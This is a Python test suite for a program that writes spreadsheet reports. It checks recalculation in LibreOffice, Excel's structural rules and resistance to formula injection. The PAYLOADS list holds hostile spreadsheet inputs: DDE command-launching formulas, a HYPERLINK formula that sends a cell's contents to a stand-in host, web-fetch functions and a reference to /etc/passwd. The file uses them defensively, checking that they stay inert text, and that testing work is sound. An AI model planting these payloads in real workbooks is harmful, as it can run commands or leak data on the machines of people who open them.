"""The workbooks in a spreadsheet program, LibreOffice without a window: they open, every cell reads the same there and recalculates to what is
stored, and no word of an input becomes a formula or a link. (assumptions.py changes the assumptions.)"""
import csv
import json
import os
import re
import xml.etree.ElementTree as ElementTree
import zipfile

import sheets
from excel_rules import faults_of
from runs import ROOT, Folder, ended, inputs_of, run, visible

SAMPLE = os.path.join(ROOT, "sample-data")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATION = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
ERRORS = ("#REF!", "#NAME?", "#DIV/0!", "#VALUE!", "#N/A", "#NUM!", "#NULL!")


# ---- the raw cells and parts of a workbook ---------------------------------------------------------------------------

class Package:
    """cells: (sheet, address) -> (formula or None, type, value as text)."""

    def __init__(self, path):
        with zipfile.ZipFile(path) as package:
            self.parts = {n: package.read(n) for n in package.namelist()}
        self.trees = {n: ElementTree.fromstring(d) for n, d in self.parts.items() if n.endswith((".xml", ".rels"))}
        self.strings = ["".join(t.text or "" for t in item.iter(MAIN + "t")) for item in self.tree("xl/sharedStrings.xml", MAIN + "si")]
        self.cells = {}
        for name, part in self.sheets():
            for cell in self.trees[part].iter(MAIN + "c"):
                self.cells[name, cell.get("r")] = self.read(cell)

    def tree(self, name, element):
        return self.trees[name].iter(element) if name in self.trees else []

    def sheets(self):
        targets = {r.get("Id"): r.get("Target") for r in self.trees["xl/_rels/workbook.xml.rels"]}
        for sheet in self.tree("xl/workbook.xml", MAIN + "sheet"):
            target = targets[sheet.get(RELATION + "id")]
            yield sheet.get("name"), target.lstrip("/") if target.startswith("/") else "xl/" + target

    def read(self, cell):
        value, formula = cell.find(MAIN + "v"), cell.find(MAIN + "f")
        text = "" if value is None else value.text or ""
        if cell.get("t") == "s":
            text = self.strings[int(text)]
        return None if formula is None else formula.text or "", cell.get("t"), text

    def formulas(self):
        return {k: v for k, v in self.cells.items() if v[0] is not None}


def convert(folder, kind, files):
    """LibreOffice on several files in one call; returns the paths that it made, in order, and what it complained of."""
    out = folder("converted-" + kind)
    complaint = sheets.convert(files, kind, out, folder("profile"))
    return [os.path.join(out, os.path.splitext(os.path.basename(f))[0] + "." + kind) for f in files], complaint


def same_value(stored, again):
    try:
        a, b = float(stored), float(again)
    except ValueError:
        return stored == again
    return abs(a - b) <= 1e-9 * max(1.0, abs(a), abs(b))


# ---- what must hold -------------------------------------------------------------------------------------------------

def check_parts(tally, name, book):
    errors = [k for k, v in book.cells.items() if v[1] == "e" or v[2] in ERRORS]
    tally.equal(errors, [], f"{name}: no error values")
    outside = [n for n, d in book.parts.items() if b'TargetMode="External"' in d or "externalLink" in n or "vba" in n.lower()]
    tally.equal(outside, [], f"{name}: nothing leads outside")
    tally.ok(all(len(v[2]) <= 32767 for v in book.cells.values()), f"{name}: no text is too long for a cell")


def check_recalculated(tally, name, stored, again, words=ERRORS):
    formulas = stored.formulas()
    apart = [(k, v[2], again.cells.get(k, (None, None, "gone"))[2]) for k, v in formulas.items()
             if not same_value(v[2], again.cells.get(k, (None, None, "gone"))[2])]
    tally.equal(apart[:3], [], f"{name}: {len(formulas)} formulas recalculate to what is stored")
    errors = [k for k, v in again.cells.items() if v[1] == "e" or v[2] in words]
    tally.equal(errors[:3], [], f"{name}: no error values after recalculation")
    return len(formulas)


def check_numbers(tally, name, stored, again):
    """Every cell reads the same in LibreOffice: nothing there was taken for something else."""
    apart = [(k, v[2][:40], again.cells.get(k, (None, None, ""))[2][:40]) for k, v in stored.cells.items()
             if v[2] and not same_value(v[2].rstrip(), again.cells.get(k, (None, None, ""))[2].rstrip())]
    tally.equal(apart[:3], [], f"{name}: all {len(stored.cells)} cells read the same")


def spoil(path, to):
    """A workbook whose stored results are wrong: recalculation must put them right, or it did not take place."""
    with zipfile.ZipFile(path) as package, zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as out:
        for name in package.namelist():
            data = package.read(name)
            if name.startswith("xl/worksheets/sheet"):
                data = re.sub(rb"(</f><v>)[-0-9.E+]+(</v>)", rb"\g<1>4711\g<2>", data)
            out.writestr(name, data)


def section_workbooks(program, tally):
    if not sheets.office():
        return tally.skip("workbooks", "LibreOffice is not there")
    with Folder() as folder:
        out = folder("out")
        done = run([program, "all", *inputs_of(SAMPLE), "--out", out])
        tally.equal(ended(done), (0, b""), "workbooks: the run")
        files = sorted(os.path.join(out, n) for n in visible(out) if n.endswith(".xlsx"))
        tally.equal(len(files), 3, "workbooks: three of them")
        pages, complaints = convert(folder, "pdf", files)
        tally.equal(complaints, "", "workbooks: LibreOffice complains of nothing")
        for path in pages:
            size = os.path.getsize(path) if os.path.exists(path) else 0
            tally.ok(size > 20000, f"{os.path.basename(path)}: printed", f"{size} bytes")
        spoil(files[1], folder("spoiled.xlsx"))
        again, _ = convert(folder, "xlsx", files + [folder("spoiled.xlsx")])
        formulas = 0
        for path, new in zip(files, again):
            name, stored, recalculated = os.path.basename(path), Package(path), Package(new)
            check_parts(tally, name, stored)
            formulas += check_recalculated(tally, name, stored, recalculated)
            check_numbers(tally, name, stored, recalculated)
        tally.ok(formulas >= 12, "workbooks: there are formulas to recalculate", str(formulas))
        spoiled = Package(again[3])
        wrong = [k for k, v in Package(files[1]).formulas().items() if not same_value(v[2], spoiled.cells[k][2])]
        tally.equal(wrong[:3], [], "workbooks: LibreOffice does recalculate")


# ---- Excel's own rules ----------------------------------------------------------------------------------------------

# A workbook that breaks a rule of Excel: part, what stands there, what is put in its place, the rule
BREACHES = (
    ("xl/tables/table1.xml", rb'name="Root cause"', rb'name="root Cause"', "headings are the cells' texts"),
    ("xl/tables/table1.xml", rb'name="Product"', rb'name="Root cause"', "two columns of one name"),
    ("xl/tables/table1.xml", rb'(displayName=")[^"]*', rb"\g<1>Q3", "a table's name"),
    ("xl/tables/table1.xml", rb' ref="A(\d+):P\d+" totals', rb' ref="A\g<1>:P\g<1>" totals', "a table has a row"),
    ("xl/workbook.xml", rb'<sheet name="Run"', rb'<sheet name="Checks"', "two sheets of one name"),
    ("xl/workbook.xml", rb'<sheet name="Run"', rb'<sheet name="History"', "a sheet's name"),
    ("xl/worksheets/sheet1.xml", rb"'Churn cost'!", b"'Churn'!", "a link leads to a sheet"),
    ("xl/worksheets/sheet1.xml", rb'<row (r="1"[^>]*?)ht="[^"]*"', rb'<row \g<1>ht="500"', "a row's height"),
    ("xl/charts/chart1.xml", rb"<c:f>'?[^!]*!", rb"<c:f>Nowhere!", "a chart's values stand in a sheet"),
)


def break_rule(path, to, part, what, by):
    """A copy with one change; whether there was something to change."""
    with zipfile.ZipFile(path) as package, zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as out:
        data = {name: package.read(name) for name in package.namelist()}
        data[part], changes = re.subn(what, by, data[part], count=1)
        for name, content in data.items():
            out.writestr(name, content)
    return changes == 1


def section_excel(program, tally):
    with Folder() as folder:
        done = run([program, "all", *inputs_of(SAMPLE), "--out", folder("out"), "--format", "xlsx"])
        tally.equal(ended(done), (0, b""), "excel: the run")
        files = sorted(os.path.join(folder("out"), n) for n in visible(folder("out")) if n.endswith(".xlsx"))
        for path in files:
            tally.equal(faults_of(path), [], f"excel: {os.path.basename(path)} keeps the rules")
        quarterly = next(path for path in files if "quarterly" in path)
        for part, what, by, rule in BREACHES:
            tally.ok(break_rule(quarterly, folder("broken.xlsx"), part, what, by), f"excel: {part} has what is to be broken")
            found = {r for _, r in faults_of(folder("broken.xlsx"))}
            tally.ok(rule in found, f"excel: seen when broken: {rule}", repr(found))


# ---- words that look like formulas ----------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1", "=1+1\t", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")", "=IMPORTXML(\"http://example.invalid\",\"//a\")", "=WEBSERVICE(\"http://example.invalid\")",
    "=IMPORTDATA(\"http://example.invalid\")", "=IMAGE(\"http://example.invalid/x.png\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=EXEC(\"calc\")",
    "='file:///etc/passwd'#$passwd.A1", "=[book.xlsx]Sheet1!A1", "=SUM(A:A)", "=A1", "{=1+1}", "=-1", "==1", "=\t1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "'=1+1", "\"=1+1", "=1+1;=2+2", "%0A=1+1", "http://example.invalid", "internal:'Run'!A1", "external:c:\\x.xlsx",
    "mailto:someone@example.invalid", "<f>1+1</f>", "</t></si><si><t>", "]]>", "&lt;f&gt;", "_x003D_1+1", "#REF!", "#N/A", "TRUE", "1E5", "0012", "2026-02-30", "1/2",
]


def hostile_book(path):
    header = ["case_id", "opened_at", "resolved_at", "kind", "root_cause", "product", "unit", "channel", "team", "agent", "priority", "region", "customer_id", "text"]
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, quoting=csv.QUOTE_ALL)
        writer.writerow(header)
        for i in range(20 * len(PAYLOADS)):
            word = PAYLOADS[i % len(PAYLOADS)]
            writer.writerow([f"{word}{i}", f"2026-0{1 + i % 9}-{1 + i % 28:02}", "", *[word] * 9, word, word])


def check_hostile(tally, name, book):
    formulas = sorted({v[0] for v in book.formulas().values()})
    tally.ok(not any(p.lstrip("=+-@\t\r\n ") in f for f in formulas for p in PAYLOADS if len(p) > 6), f"hostile {name}: no formula of the input's", str(formulas))
    links = [h.get("location") or h.get(RELATION + "id") for n, t in book.trees.items() if n.startswith("xl/worksheets") for h in t.iter(MAIN + "hyperlink")]
    tally.ok(all(re.match(r"'[A-Za-z0-9 -]+'!", x) for x in links), f"hostile {name}: links lead to sheets of the workbook", str(links[:3]))
    names = [n.text for n in book.tree("xl/workbook.xml", MAIN + "definedName")]
    tally.ok(not any("example.invalid" in n or "cmd" in n for n in names), f"hostile {name}: no name of the input's")
    texts = {v[2] for v in book.cells.values()}
    seen = [p for p in PAYLOADS if p.strip() in texts or p in texts]
    return set(seen)


def section_hostile(program, tally):
    with Folder() as folder:
        hostile_book(folder("cases.csv"))
        done = run([program, "all", "--cases", folder("cases.csv"), "--out", folder("out"), "--set", "report.min_group=1"])
        if not tally.equal(ended(done), (0, b""), "hostile: the run"):
            return
        files = sorted(os.path.join(folder("out"), n) for n in visible(folder("out")) if n.endswith(".xlsx"))
        seen = set()
        for path in files:
            book = Package(path)
            tally.equal(faults_of(path), [], f"hostile {os.path.basename(path)}: keeps Excel's rules")
            outside = [n for n, d in book.parts.items() if b'TargetMode="External"' in d or b"oleObject" in d or b"ddeLink" in d]
            tally.equal(outside, [], f"hostile {os.path.basename(path)}: nothing leads outside")
            seen |= check_hostile(tally, os.path.basename(path), book)
        tally.ok(len(seen) >= 40, "hostile: the words stand in the sheets, as text", f"{len(seen)} of {len(PAYLOADS)}; not {sorted(set(PAYLOADS) - seen)}")
        if sheets.office():
            again, complaints = convert(folder, "xlsx", files)
            tally.equal(complaints, "", "hostile: LibreOffice complains of nothing")
            for path, new in zip(files, again):
                check_recalculated(tally, "hostile " + os.path.basename(path), Package(path), Package(new), words=())


# ---- books that are hardly books ------------------------------------------------------------------------------------

ODD = (
    ("one open case", "case_id,opened_at\nA,2026-01-01\n", ()),
    ("one case solved at once", "case_id,opened_at,resolved_at\nA,2026-01-01,2026-01-01\n", ()),
    ("two cases three hundred years apart", "case_id,opened_at,resolved_at\nA,1900-01-01,\nB,2200-12-31 23:59:59,2200-12-31 23:59:59\n", ()),
    ("nothing in the period", "case_id,opened_at,loss_amount,remedy_amount\nA,2026-01-01,5,5\n", ("--period", "2030")),
    ("nothing before the as-of time", "case_id,opened_at\nA,2026-01-01\n", ("--as-of", "2020-01-01")),
    ("the same file twice", "case_id,opened_at,resolved_at\nA,2026-01-01,2026-01-02\n", ("twice",)),
    ("no loss of customers assumed", "case_id,opened_at,customer_id\nA,2026-01-01,K\n", ("--set", "assumptions.annual_loss_rate=0")),
    ("no weight, full reach", "case_id,opened_at,customer_id\nA,2026-01-01,K\n", ("--set", "assumptions.prior_weight=0", "--set", "assumptions.reach=1")),
    ("everyone is one customer", "case_id,opened_at,resolved_at,customer_id,product,kind\n" +
     "".join(f"A{i},2026-0{1 + i % 9}-03,2026-0{1 + i % 9}-04,K,P,Q\n" for i in range(300)), ()),
    ("all withdrawn", "case_id,opened_at,status\n" + "".join(f"A{i},2026-03-03,withdrawn\n" for i in range(30)), ()),
    ("all closed at unknown times", "case_id,opened_at,status,loss_amount\n" + "".join(f"A{i},2026-03-03,closed,0\n" for i in range(30)), ()),
)


def refuse_constant(word):
    raise ValueError(f"{word} is no JSON")


def check_json(tally, name, text):
    document = json.loads(text, parse_constant=refuse_constant)
    wrong = [c for c in document["checks"] if not c["ok"]]
    tally.equal(wrong, [], f"odd, {name}: the checks of {document['report']} hold")

    def reasons(at, path):
        if isinstance(at, dict):
            for key, value in at.items():
                if value is None and key + "_reason" not in at and path != ".config" and ".sheets" not in path and ".charts" not in path:
                    yield f"{path}.{key}"
                yield from reasons(value, f"{path}.{key}")
        elif isinstance(at, list):
            for i, value in enumerate(at):
                yield from reasons(value, f"{path}.{i}")
    tally.equal(list(reasons(document, ""))[:4], [], f"odd, {name}: every null of {document['report']} has its reason")


def section_odd(program, tally):
    with Folder() as folder:
        books = []
        for i, (name, text, words) in enumerate(ODD):
            with open(folder("cases.csv"), "w", encoding="utf-8") as f:
                f.write(text)
            inputs = [folder("cases.csv")] * (2 if "twice" in words else 1)
            out = folder(f"odd-{i}")
            done = run([program, "all", "--cases", *inputs, "--out", out, *[w for w in words if w != "twice"]])
            if not tally.equal(ended(done, warned=True), (0, b""), f"odd, {name}: the run"):
                continue
            for file, data in visible(out).items():
                if file.endswith(".json"):
                    check_json(tally, name, data.decode("utf-8"))
                elif file.endswith(".xlsx"):
                    check_parts(tally, f"odd, {name}, {file}", Package(os.path.join(out, file)))
                    os.rename(os.path.join(out, file), folder(f"odd-{i}-{file}"))
                    books.append((name, folder(f"odd-{i}-{file}")))
        if sheets.office():
            again, complaints = convert(folder, "xlsx", [b for _, b in books])
            tally.equal(complaints, "", "odd: LibreOffice complains of nothing")
            for (name, path), new in zip(books, again):
                check_recalculated(tally, f"odd, {name}", Package(path), Package(new))
